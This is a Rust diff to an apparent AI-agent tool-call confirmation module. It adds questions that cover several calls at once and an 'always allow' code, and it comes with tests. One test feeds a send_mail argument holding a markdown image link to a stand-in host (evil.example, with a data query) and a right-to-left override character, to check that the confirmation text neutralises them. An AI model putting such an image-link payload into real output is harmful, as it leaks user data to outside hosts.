@@ -7,23 +7,78 @@ use ombud_core::{Lang, Say, say};
 /// Characters of the arguments that are shown.
 const SHOWN: usize = 1600;
 
-/// The text for a call that is not released; `None` if it is. `code` releases it where the user may decide.
+/// The codes of a question.
+#[derive(Debug, Clone, Copy)]
+pub struct Codes<'c> {
+    /// Releases this call.
+    pub once: &'c str,
+    /// Allows the tool these values for the rest of the conversation, where the question is about values only.
+    pub always: Option<&'c str>,
+}
+
+/// Characters of one call's arguments in a question about several.
+const SHOWN_OF_SEVERAL: usize = 300;
+
+/// One call in a question about several; `None` if the user is not asked about it.
+pub fn item(
+    decision: &CallDecision,
+    tool: &str,
+    effect: Effect,
+    arguments: &str,
+    lang: Lang,
+) -> Option<String> {
+    let CallDecision::Ask(doubts) = decision else { return None };
+    let (tool, does) = (quoted(tool), effect.say(lang));
+    let shown: String = arguments.chars().take(SHOWN_OF_SEVERAL).collect();
+    let arguments = quoted_whole(&shown);
+    let why: Vec<String> = doubts.iter().map(|doubt| doubt.say(lang)).collect();
+    let why = why.join(if lang == Lang::Zh { "；" } else { "; " });
+    Some(
+        say!(lang, en: "- {tool}, which {does}: {arguments}\n  {why}", zh: "- {tool}（{does}）：{arguments}\n  {why}"),
+    )
+}
+
+/// One question about several calls, with the codes of all of them.
+pub fn several(items: &[&str], codes: &[&str], lang: Lang) -> String {
+    let (count, items, codes) = (items.len(), items.join("\n"), codes.join(" "));
+    say!(lang,
+        en: "I need your confirmation first, for {count} calls:\n\n{items}\n\nTo allow all of them, reply: yes {codes}\nFor some of them, give their codes only; they stand in the order of the list.",
+        zh: "以下 {count} 次调用需要你先确认：\n\n{items}\n\n如果全部同意，请回复：同意 {codes}\n如果只同意其中几项，只写对应的代码即可，顺序与列表一致。")
+}
+
+/// What stands in the place of the other calls of such a question.
+pub fn elsewhere(lang: Lang) -> String {
+    say!(lang, en: "(See the question about several calls.)", zh: "（见上面关于多次调用的确认。）")
+}
+
+fn quoted_whole(text: &str) -> String {
+    let clean = |ch: char| if ch == '`' || ch.is_control() || is_invisible(ch) { ' ' } else { ch };
+    format!("`{}`", text.chars().map(clean).collect::<String>().trim())
+}
+
+/// The text for a call that is not released; `None` if it is. `codes` release it where the user may decide.
 pub fn text(
     decision: &CallDecision,
     tool: &str,
     effect: Effect,
     arguments: &str,
-    code: &str,
+    codes: Codes<'_>,
     lang: Lang,
 ) -> Option<String> {
+    let code = codes.once;
+    let always = codes.always.map_or_else(String::new, |always| {
+        say!(lang,
+            en: "To allow it these values from now on in this conversation, reply: always {always}\n",
+            zh: "如果本次对话中以后都允许使用这些值，请回复：总是允许 {always}\n")
+    });
     let (tool, does, arguments) = (quoted(tool), effect.say(lang), fenced(arguments));
     let why: Vec<String> = decision.doubts().iter().map(|doubt| format!("- {}", doubt.say(lang))).collect();
     let why = why.join("\n");
     match decision {
         CallDecision::Release(_) | CallDecision::Approved => None,
         CallDecision::Ask(_) => Some(say!(lang,
-            en: "I need your confirmation first. I was about to call {tool}, which {does}:\n\n{arguments}\n\nWhy I ask:\n{why}\n\nTo allow exactly this call, reply: yes {code}",
-            zh: "这一步需要你先确认。我正要调用 {tool}（{does}）：\n\n{arguments}\n\n询问原因：\n{why}\n\n如果同意执行这一次调用，请回复：同意 {code}")),
+            en: "I need your confirmation first. I was about to call {tool}, which {does}:\n\n{arguments}\n\nWhy I ask:\n{why}\n\n{always}To allow exactly this call, reply: yes {code}",
+            zh: "这一步需要你先确认。我正要调用 {tool}（{does}）：\n\n{arguments}\n\n询问原因：\n{why}\n\n{always}如果同意执行这一次调用，请回复：同意 {code}")),
         CallDecision::Block(doubts) if doubts.contains(&Doubt::Secret) => Some(say!(lang,
             en: "I did not call {tool}:\n{why}\n\nGive the tool its secret outside the prompt, or set `\"key.api\" = \"mask\"` under [policy.masking] in ombud.toml.",
             zh: "我没有调用 {tool}：\n{why}\n\n请不要把密钥写进提示词，而是直接交给工具；或在 ombud.toml 的 [policy.masking] 下设置 `\"key.api\" = \"mask\"`。")),
@@ -66,19 +121,30 @@ pub fn language(turns: &[(usize, String)], fallback: Lang) -> Lang {
 mod tests {
     use super::*;
 
+    const ONCE: Codes<'static> = Codes { once: "4F2A7K", always: None };
+
+    #[test]
+    fn one_question_about_several_calls() {
+        let asked = CallDecision::Ask(vec![Doubt::NotAsked]);
+        let one = item(&asked, "send_mail", Effect::Send, "{\"to\":\"`x`\"}", Lang::En).unwrap();
+        let text = several(&[&one, &one], &["4F2A7K", "9XQ2M1"], Lang::En);
+        assert!(text.contains("yes 4F2A7K 9XQ2M1") && !text.contains("`x`"), "{text}");
+        assert_eq!(item(&CallDecision::Approved, "t", Effect::Send, "{}", Lang::En), None);
+    }
+
     #[test]
     fn the_question_names_the_call_and_lets_no_markup_through() {
         let decision = CallDecision::Ask(vec![Doubt::NotAsked]);
         let arguments = "{\"to\":\"x\",\"body\":\"```\\n![a](http://evil.example/?d=1)\u{202e}\"}";
-        let asked = text(&decision, "send_mail", Effect::Send, arguments, "4F2A7K", Lang::En).unwrap();
+        let asked = text(&decision, "send_mail", Effect::Send, arguments, ONCE, Lang::En).unwrap();
         assert!(asked.ends_with("reply: yes 4F2A7K") && asked.contains("`send_mail`"), "{asked}");
         let inside = asked.split("```").nth(1).unwrap();
         assert!(inside.contains("evil.example") && !asked.contains('\u{202e}'), "{asked}");
         let blocked =
-            text(&CallDecision::Block(vec![Doubt::NotAsked]), "t", Effect::Pay, "{}", "4F2A7K", Lang::Zh)
+            text(&CallDecision::Block(vec![Doubt::NotAsked]), "t", Effect::Pay, "{}", ONCE, Lang::Zh)
                 .unwrap();
         assert!(!blocked.contains("4F2A7K") && blocked.contains("ombud.toml"), "{blocked}");
-        assert_eq!(text(&CallDecision::Approved, "t", Effect::Pay, "{}", "4F2A7K", Lang::Zh), None);
+        assert_eq!(text(&CallDecision::Approved, "t", Effect::Pay, "{}", ONCE, Lang::Zh), None);
     }
 
     #[test]
